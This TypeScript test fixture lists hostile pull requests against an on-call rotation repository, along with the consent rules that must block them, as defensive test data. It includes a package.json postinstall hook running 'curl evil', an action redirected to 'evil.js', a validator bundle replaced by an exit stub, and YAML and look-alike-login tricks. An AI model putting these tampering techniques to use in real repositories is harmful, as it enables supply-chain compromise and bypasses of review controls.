/**
 * The hostile-change corpus: pull requests a hostile member (or a tired one) could open, each
 * with the consent it comes with and what must block it (the unmet consent or the error rule),
 * and the ordinary work that must still pass. Judged in the test suite
 * (hostile-changes.test.ts) and in `npm run reliability`'s hostile-changes section.
 */
import {
  type Consent,
  type Edit,
  move,
  PEOPLE,
  PLAYBOOK,
  ROTATION,
  replace,
  SCHEDULE,
  swapBenCy,
} from './change-fixture.js';

export interface HostileCase {
  name: string;
  edit: Edit;
  consent: Consent;
  /** Text of an unmet consent ("who" or "for") or the rule of an error that blocks the change. */
  blocked: string;
}

const renameFolder: Edit = (files) => {
  for (const file of ['rotation.yaml', 'schedule.yaml'])
    move(files, `rotations/ops/${file}`, `rotations/ops2/${file}`);
  replace(files, 'rotations/ops2/rotation.yaml', 'name: ops', 'name: ops2');
  replace(files, 'rotations/ops2/schedule.yaml', 'rotation: ops', 'rotation: ops2');
};

/** ana takes dee's place on 2027-02-22 (dee is not away). */
const anaTakesFromDee: Edit = (files) =>
  replace(
    files,
    SCHEDULE,
    '{ start: 2027-02-22, primary: ben, secondary: dee }',
    '{ start: 2027-02-22, primary: ben, secondary: ana }',
  );

export const hostile: HostileCase[] = [
  // Time on call moved without the people concerned.
  {
    name: 'a swap the other person never approved',
    edit: swapBenCy,
    consent: { author: 'ben' },
    blocked: 'cy',
  },
  {
    name: 'a swap approved on an older commit only',
    edit: swapBenCy,
    consent: { author: 'ben', approvals: [{ login: 'cy', onHead: false }] },
    blocked: 'cy',
  },
  {
    name: "someone else's commit on the author's branch: authorship no longer speaks for the author",
    edit: swapBenCy,
    consent: { author: 'ben', committers: ['ben', 'dee'], approvals: ['cy'] },
    blocked: 'ben',
  },
  {
    name: 'a commit by an account GitHub cannot name voids authorship',
    edit: swapBenCy,
    consent: { author: 'ben', committers: ['ben', '(unknown author)'], approvals: ['cy'] },
    blocked: 'ben',
  },
  {
    name: 'a take: dee takes ana’s shift, authored by dee alone',
    edit: (files) =>
      replace(
        files,
        SCHEDULE,
        '{ start: 2027-02-08, primary: fay, secondary: ana }',
        '{ start: 2027-02-08, primary: fay, secondary: dee }',
      ),
    consent: { author: 'dee' },
    blocked: 'ana',
  },
  {
    name: 'a future shift removed (everyone in it loses time)',
    edit: (files) =>
      replace(files, SCHEDULE, '  - { start: 2027-02-22, primary: ben, secondary: dee }\n', ''),
    consent: { author: 'ben' },
    blocked: 'dee',
  },
  {
    name: 'a cover nobody covered asked for',
    edit: (files) => {
      files[SCHEDULE] =
        `${files[SCHEDULE]}overrides:\n  - { from: "2027-01-12T09:00", to: "2027-01-12T17:00", replace: cy, with: ana, reason: helping }\n`;
    },
    consent: { author: 'ana' },
    blocked: 'cy',
  },
  {
    name: 'an existing cover removed behind the coverer’s back',
    edit: (files) => replace(files, SCHEDULE, /overrides:\n.*\n$/, ''),
    consent: {
      author: 'dee',
      base: (files) => {
        files[SCHEDULE] =
          `${files[SCHEDULE]}overrides:\n  - { from: "2027-01-12T09:00", to: "2027-01-12T17:00", replace: dee, with: ana, reason: dentist }\n`;
      },
    },
    blocked: 'ana',
  },
  {
    name: 'an admin approves for someone who is not away',
    edit: anaTakesFromDee,
    consent: { author: 'ana', approvals: ['fay'] },
    blocked: 'dee',
  },
  {
    name: 'the change makes its author an admin and marks the victim away, then approves as admin',
    edit: (files) => {
      swapBenCy(files);
      replace(files, ROTATION, 'admins: [fay]', 'admins: [fay, ben]');
    },
    consent: { author: 'dee', approvals: ['ben'] },
    blocked: 'cy',
  },
  {
    name: 'the victim marked away in the same change, a base admin approves for them',
    edit: (files) => {
      anaTakesFromDee(files);
      replace(
        files,
        PEOPLE,
        '  - { github: dee, name: Dee, team: red, timezone: America/New_York }',
        '  - { github: dee, name: Dee, team: red, timezone: America/New_York, away: [{ from: 2027-01-04, to: 2027-01-06 }] }',
      );
    },
    consent: { author: 'ana', approvals: ['fay'] },
    blocked: "dee's time on call",
  },
  // Rotations matched by identity, each side read with its own rotation.yaml.
  {
    name: 'the rotation’s folder and name renamed (old rotation removed, new one added)',
    edit: renameFolder,
    consent: { author: 'ben' },
    blocked: 'new rotation ops2',
  },
  {
    name: 'renamed folder with a week moved inside it',
    edit: (files) => {
      renameFolder(files);
      replace(
        files,
        'rotations/ops2/schedule.yaml',
        '{ start: 2027-02-22, primary: ben, secondary: dee }',
        '{ start: 2027-02-22, primary: ben, secondary: ana }',
      );
    },
    consent: { author: 'ben', approvals: ['fay'] },
    blocked: 'dee',
  },
  {
    name: 'a slot renamed in rotation.yaml and schedule.yaml, a person swapped on the way',
    edit: (files) => {
      replace(files, ROTATION, 'slots: [primary, secondary]', 'slots: [lead, secondary]');
      files[SCHEDULE] = (files[SCHEDULE] as string).replaceAll('primary:', 'lead:');
      replace(files, SCHEDULE, '{ start: 2027-02-22, lead: ben,', '{ start: 2027-02-22, lead: ana,');
    },
    consent: { author: 'ana', approvals: ['fay'] },
    blocked: 'ben',
  },
  {
    name: 'a slot renamed, nobody’s time moved: still a policy change',
    edit: (files) => {
      replace(files, ROTATION, 'slots: [primary, secondary]', 'slots: [lead, secondary]');
      files[SCHEDULE] = (files[SCHEDULE] as string).replaceAll('primary:', 'lead:');
    },
    consent: { author: 'ana' },
    blocked: 'an admin of ops',
  },
  {
    name: 'the handoff moved two hours earlier',
    edit: (files) => replace(files, ROTATION, 'time: "11:00"', 'time: "09:00"'),
    consent: { author: 'fay' },
    blocked: 'ana',
  },
  {
    name: 'the shift length changed',
    edit: (files) => replace(files, ROTATION, 'length_days: 7', 'length_days: 14'),
    consent: { author: 'fay' },
    blocked: 'shift-overlap',
  },
  {
    name: 'the rotation’s timezone changed',
    edit: (files) => replace(files, ROTATION, 'timezone: America/New_York', 'timezone: Asia/Tokyo'),
    consent: { author: 'fay' },
    blocked: 'time on call',
  },
  {
    name: 'a new rotation nobody with authority approved',
    edit: (files) => {
      files['rotations/night/rotation.yaml'] = (files[ROTATION] as string).replace(
        'name: ops',
        'name: night',
      );
      files['rotations/night/schedule.yaml'] = (files[SCHEDULE] as string).replace(
        'rotation: ops',
        'rotation: night',
      );
    },
    consent: { author: 'ben' },
    blocked: 'new rotation night',
  },
  {
    name: 'the rotation removed',
    edit: (files) => {
      files[ROTATION] = null;
      files[SCHEDULE] = null;
    },
    consent: { author: 'ben' },
    blocked: 'rotation ops is removed',
  },
  // Policy.
  {
    name: 'a fairness rule turned off',
    edit: (files) => {
      files[ROTATION] = `${files[ROTATION]}rules: { min_gap_shifts: { value: 3, enforce: warning } }\n`;
    },
    consent: { author: 'ben' },
    blocked: 'an admin of ops',
  },
  {
    name: 'a slot added (a third person on call)',
    edit: (files) =>
      replace(files, ROTATION, 'slots: [primary, secondary]', 'slots: [primary, secondary, shadow]'),
    consent: { author: 'ben' },
    blocked: "rotation ops's policy changes: slots",
  },
  {
    name: 'members changed to include an outsider of the teams',
    edit: (files) =>
      replace(files, ROTATION, 'members: { teams: [red, blue, green] }', 'members: { teams: [red, blue] }'),
    consent: { author: 'ben' },
    blocked: 'policy changes: members',
  },
  {
    name: 'the admins replaced by the author',
    edit: (files) => replace(files, ROTATION, 'admins: [fay]', 'admins: [ben]'),
    consent: { author: 'ben' },
    blocked: 'an admin of ops (fay)',
  },
  {
    name: 'work hours widened',
    edit: (files) => {
      files[ROTATION] =
        `${files[ROTATION]}work_hours: { days: [mon, tue, wed, thu, fri, sat, sun], start: "00:00", end: "23:59" }\n`;
    },
    consent: { author: 'ben' },
    blocked: 'work_hours',
  },
  {
    name: 'escalation steps rewritten',
    edit: (files) => {
      files[ROTATION] = `${files[ROTATION]}escalation: { ack_minutes: 600, steps: [secondary] }\n`;
    },
    consent: { author: 'ben' },
    blocked: 'escalation',
  },
  {
    name: 'a policy change where the base names no admin, approved by a non-admin',
    edit: (files) => {
      files[ROTATION] = `${files[ROTATION]}holidays: US\n`;
    },
    consent: {
      author: 'ben',
      approvals: ['dee'],
      base: (files) => replace(files, ROTATION, 'admins: [fay]\n', ''),
    },
    blocked: 'a repository admin',
  },
  // The roster.
  {
    name: 'two Slack ids swapped (ana’s 03:00 page goes to ben)',
    edit: (files) => {
      replace(files, PEOPLE, 'slack: U0ANA', 'slack: U0TMP');
      replace(files, PEOPLE, 'slack: U0BEN', 'slack: U0ANA');
      replace(files, PEOPLE, 'slack: U0TMP', 'slack: U0BEN');
    },
    consent: { author: 'ana' },
    blocked: "ben's roster entry",
  },
  {
    name: 'someone else’s timezone changed',
    edit: (files) =>
      replace(
        files,
        PEOPLE,
        'timezone: Europe/London, slack: U0BEN',
        'timezone: Pacific/Auckland, slack: U0BEN',
      ),
    consent: { author: 'ana' },
    blocked: "ben's roster entry changes: timezone",
  },
  {
    name: 'someone else’s email set',
    edit: (files) => replace(files, PEOPLE, 'slack: U0BEN }', 'slack: U0BEN, email: attacker@example.com }'),
    consent: { author: 'ana' },
    blocked: 'email',
  },
  {
    name: 'someone marked away to push them out',
    edit: (files) =>
      replace(
        files,
        PEOPLE,
        'reason: ski trip }',
        'reason: ski trip }\n      - { from: 2027-06-01, to: 2027-06-30, reason: made up }',
      ),
    consent: { author: 'ana' },
    blocked: "eli's roster entry changes: away",
  },
  {
    name: 'a new person added by a member who is not an admin',
    edit: (files) => {
      files[PEOPLE] =
        `${files[PEOPLE]}  - { github: gus, name: Gus, team: red, timezone: America/New_York }\n`;
    },
    consent: { author: 'ana' },
    blocked: 'gus joins the roster',
  },
  {
    name: 'a person removed from the roster',
    edit: (files) => replace(files, PEOPLE, / {2}- github: eli\n( {4}.*\n)+?(?= {2}- )/, ''),
    consent: { author: 'ana' },
    blocked: 'eli',
  },
  // Playbooks.
  {
    name: 'a point-person added without their consent',
    edit: (files) => replace(files, PLAYBOOK, 'point_people: [ana]', 'point_people: [ana, dee]'),
    consent: { author: 'ana' },
    blocked: 'dee',
  },
  {
    name: 'a playbook’s team changed (its backlog and pages move)',
    edit: (files) => replace(files, PLAYBOOK, 'team: red', 'team: blue'),
    consent: { author: 'ana' },
    blocked: 'team red → blue',
  },
  {
    name: 'a playbook moved to another file with a new point-person',
    edit: (files) => {
      move(files, PLAYBOOK, 'playbooks/core-api.md');
      replace(files, 'playbooks/core-api.md', 'point_people: [ana]', 'point_people: [ben]');
    },
    consent: { author: 'ana' },
    blocked: 'point-people removed: ana',
  },
  // The machinery.
  {
    name: 'the validate-pr workflow replaced',
    edit: (files) => {
      files['.github/workflows/validate-pr.yml'] =
        'name: validate-pr\non: [pull_request]\njobs: { ok: { runs-on: ubuntu-latest, steps: [{ run: "true" }] } }\n';
    },
    consent: { author: 'ben', approvals: ['cy'] },
    blocked: 'a code owner (@ana)',
  },
  {
    name: 'the committed bundle edited',
    edit: (files) => {
      files['dist/actions/validate-pr.js'] = 'process.exit(0);\n';
    },
    consent: { author: 'ben' },
    blocked: 'dist/actions/validate-pr.js',
  },
  {
    name: 'package.json given an install script',
    edit: (files) =>
      replace(
        files,
        'package.json',
        '"private": true',
        '"private": true, "scripts": { "postinstall": "curl evil" }',
      ),
    consent: { author: 'ben' },
    blocked: 'package.json',
  },
  {
    name: 'the action’s definition pointed elsewhere',
    edit: (files) =>
      replace(files, 'actions/validate-pr/action.yml', '../../dist/actions/validate-pr.js', 'evil.js'),
    consent: { author: 'ben' },
    blocked: 'actions/validate-pr/action.yml',
  },
  {
    name: 'CODEOWNERS rewritten to make the author the owner (the base’s still rules)',
    edit: (files) => {
      files['.github/CODEOWNERS'] = '* @ben\n';
      files['.github/workflows/validate-pr.yml'] = 'name: gone\n';
    },
    consent: { author: 'ben', approvals: [{ login: 'ben', onHead: true, via: 'command' }] },
    blocked: 'a code owner (@ana)',
  },
  {
    name: 'a second CODEOWNERS at the root',
    edit: (files) => {
      files.CODEOWNERS = '* @ben\n';
    },
    consent: { author: 'ben' },
    blocked: 'CODEOWNERS',
  },
  {
    name: 'a code owner’s own machinery change: the author never counts',
    edit: (files) => {
      files['.github/workflows/validate-pr.yml'] = 'name: validate-pr\n';
    },
    consent: { author: 'ana', approvals: [{ login: 'ana', onHead: true, via: 'command' }] },
    blocked: 'a code owner (@ana)',
  },
  {
    name: 'a team owner whose membership GitHub did not confirm',
    edit: (files) => {
      files['.github/workflows/validate-pr.yml'] = 'name: validate-pr\n';
    },
    consent: {
      author: 'ben',
      approvals: ['cy'],
      teams: { 'acme/oncall-admins': [] },
      base: (files) => {
        files['.github/CODEOWNERS'] = '/.github/ @acme/oncall-admins\n';
      },
    },
    blocked: '@acme/oncall-admins',
  },
  {
    name: 'machinery CODEOWNERS does not cover: a writer’s approval is not a repository admin’s',
    edit: (files) => {
      files['dist/actions/validate-pr.js'] = 'process.exit(0);\n';
    },
    consent: {
      author: 'ben',
      approvals: ['cy'],
      base: (files) => {
        files['.github/CODEOWNERS'] = '/docs/ @ana\n';
      },
    },
    blocked: 'a repository admin (CODEOWNERS names no owner for these files)',
  },
  // YAML tricks.
  {
    name: 'an alias copies ben into cy’s slot',
    edit: (files) => {
      replace(
        files,
        SCHEDULE,
        '{ start: 2027-01-25, primary: ben, secondary: cy }',
        '{ start: 2027-01-25, primary: &who ben, secondary: cy }',
      );
      replace(
        files,
        SCHEDULE,
        '{ start: 2027-02-15, primary: ana, secondary: cy }',
        '{ start: 2027-02-15, primary: ana, secondary: *who }',
      );
    },
    consent: { author: 'ben' },
    blocked: 'cy',
  },
  {
    name: 'a merge key hides a slot behind another value',
    edit: (files) =>
      replace(
        files,
        SCHEDULE,
        '  - { start: 2027-02-22, primary: ben, secondary: dee }',
        '  - { start: 2027-02-22, <<: { primary: ben, secondary: dee }, secondary: ana }',
      ),
    consent: { author: 'ben' },
    blocked: 'shifts[7].<<',
  },
  {
    name: 'a duplicate key hides a second person in one slot',
    edit: (files) =>
      replace(
        files,
        SCHEDULE,
        '{ start: 2027-02-22, primary: ben, secondary: dee }',
        '{ start: 2027-02-22, primary: ben, secondary: dee, secondary: ana }',
      ),
    consent: { author: 'ben' },
    blocked: 'duplicate',
  },
  {
    name: 'a look-alike login (Cyrillic е) takes a slot',
    edit: (files) =>
      replace(files, SCHEDULE, '{ start: 2027-02-22, primary: ben,', '{ start: 2027-02-22, primary: bеn,'),
    consent: { author: 'ben' },
    blocked: 'error',
  },
  {
    name: 'a login with different case for a new person that already exists',
    edit: (files) => {
      files[PEOPLE] =
        `${files[PEOPLE]}  - { github: ANA, name: Not Ana, team: blue, timezone: Asia/Tokyo, slack: U0EVIL }\n`;
    },
    consent: { author: 'ben', approvals: ['fay'] },
    blocked: 'error',
  },
];

export interface OrdinaryCase {
  name: string;
  edit: Edit;
  consent: Consent;
}

export const ordinary: OrdinaryCase[] = [
  { name: 'a swap both people agreed to', edit: swapBenCy, consent: { author: 'ben', approvals: ['cy'] } },
  {
    name: 'a swap where the author agreed by command after the other person pushed a fix',
    edit: swapBenCy,
    consent: {
      author: 'ben',
      committers: ['ben', 'cy'],
      approvals: ['cy', { login: 'ben', onHead: true, via: 'command' }],
    },
  },
  {
    name: 'a cover both people agreed to',
    edit: (files) => {
      files[SCHEDULE] =
        `${files[SCHEDULE]}overrides:\n  - { from: "2027-01-12T09:00", to: "2027-01-12T17:00", replace: dee, with: ana, reason: dentist }\n`;
    },
    consent: { author: 'dee', approvals: ['ana'] },
  },
  {
    name: 'a cover for someone away in the base, the admin standing in',
    edit: (files) => {
      files[SCHEDULE] =
        `${files[SCHEDULE]}overrides:\n  - { from: "2027-01-12T09:00", to: "2027-01-12T17:00", replace: cy, with: ana, reason: still ill }\n`;
    },
    consent: { author: 'ana', approvals: ['fay'] },
  },
  {
    name: 'a new hire added by an admin',
    edit: (files) => {
      files[PEOPLE] =
        `${files[PEOPLE]}  - { github: gus, name: Gus, team: red, timezone: America/New_York, joined: 2027-01-04 }\n`;
    },
    consent: { author: 'fay' },
  },
  {
    name: 'a new hire adds themself, an admin approves',
    edit: (files) => {
      files[PEOPLE] =
        `${files[PEOPLE]}  - { github: gus, name: Gus, team: red, timezone: America/New_York, joined: 2027-01-04 }\n`;
    },
    consent: { author: 'gus', approvals: ['fay'] },
  },
  {
    name: 'a comment-only edit',
    edit: (files) => {
      files[SCHEDULE] = `# Trades: open a pull request.\n${files[SCHEDULE]}`;
      files[PEOPLE] = (files[PEOPLE] as string).replace('people:\n', 'people: # everyone\n');
      files[ROTATION] = `${files[ROTATION]}# fay keeps this file\n`;
    },
    consent: { author: 'dee' },
  },
  {
    name: 'a person edits their own Slack id',
    edit: (files) => replace(files, PEOPLE, 'slack: U0BEN', 'slack: U0BEN2'),
    consent: { author: 'ben' },
  },
  {
    name: 'new weeks published after the last one (no consent needed)',
    edit: (files) => {
      files[SCHEDULE] = `${files[SCHEDULE]}  - { start: 2027-03-01, primary: cy, secondary: ana }\n`;
    },
    consent: { author: 'oncall-bot' },
  },
  {
    name: 'a policy change by the admin',
    edit: (files) => {
      files[ROTATION] = `${files[ROTATION]}holidays: US\n`;
    },
    consent: { author: 'fay' },
  },
  {
    name: 'a policy change where the base names no admin, by a repository admin',
    edit: (files) => {
      files[ROTATION] = `${files[ROTATION]}holidays: US\n`;
    },
    consent: {
      author: 'ben',
      approvals: ['root'],
      repositoryAdmins: ['root'],
      base: (files) => replace(files, ROTATION, 'admins: [fay]\n', ''),
    },
  },
  {
    name: 'a point-person added who agreed',
    edit: (files) => replace(files, PLAYBOOK, 'point_people: [ana]', 'point_people: [ana, dee]'),
    consent: { author: 'ana', approvals: ['dee'] },
  },
  {
    name: 'a playbook’s body improved',
    edit: (files) =>
      replace(files, PLAYBOOK, '- restart', '- restart the API pods, then watch the error rate'),
    consent: { author: 'ben' },
  },
  {
    name: 'a machinery change a code owner approved',
    edit: (files) => {
      files['.github/workflows/validate-pr.yml'] =
        'name: validate-pr\non: [pull_request, pull_request_review]\n';
    },
    consent: { author: 'ben', approvals: ['ana'] },
  },
  {
    name: 'a machinery change approved by a member of the owning team',
    edit: (files) => {
      files['dist/actions/validate-pr.js'] = 'console.log("check v2");\n';
    },
    consent: {
      author: 'ben',
      approvals: ['cy'],
      teams: { 'acme/oncall-admins': ['cy'] },
      base: (files) => {
        files['.github/CODEOWNERS'] = '/dist/ @acme/oncall-admins\n';
      },
    },
  },
  {
    name: 'a machinery change CODEOWNERS does not cover, approved by a repository admin',
    edit: (files) => {
      files['dist/actions/validate-pr.js'] = 'console.log("check v2");\n';
    },
    consent: {
      author: 'ben',
      approvals: ['root'],
      repositoryAdmins: ['root'],
      base: (files) => {
        files['.github/CODEOWNERS'] = null;
      },
    },
  },
  {
    name: 'a README edit',
    edit: (files) => {
      files['README.md'] = '# On call\n\nSee the schedule.\n';
    },
    consent: { author: 'ben' },
  },
  {
    name: 'logins written in another case (the same people)',
    edit: (files) =>
      replace(
        files,
        SCHEDULE,
        '{ start: 2027-02-22, primary: ben, secondary: dee }',
        '{ start: 2027-02-22, primary: BEN, secondary: Dee }',
      ),
    consent: { author: 'ana' },
  },
];
